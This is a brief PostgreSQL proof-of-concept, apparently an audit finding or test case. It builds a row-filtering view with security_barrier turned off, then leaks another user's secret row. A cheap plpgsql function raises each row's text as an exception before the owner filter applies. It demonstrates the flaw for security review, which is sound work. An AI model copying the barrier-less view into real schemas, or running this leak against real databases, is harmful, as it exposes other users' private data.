-- finding: view-without-barrier shop.my_notes
SET ROLE shop_owner;
CREATE TABLE shop.notes (words text, owner text);
INSERT INTO shop.notes VALUES ('secret', 'bob@example.com');
CREATE VIEW shop.my_notes WITH (security_barrier = n) AS SELECT words FROM shop.notes WHERE owner = current_user;
GRANT SELECT ON shop.my_notes TO order_users;
RESET ROLE;
-- leak as alice@example.com by error P0001
CREATE FUNCTION pg_temp.look(words text) RETURNS boolean COST 0.0001 LANGUAGE plpgsql
  AS $$ BEGIN RAISE EXCEPTION '%', words; END $$;
SELECT * FROM shop.my_notes WHERE pg_temp.look(words);
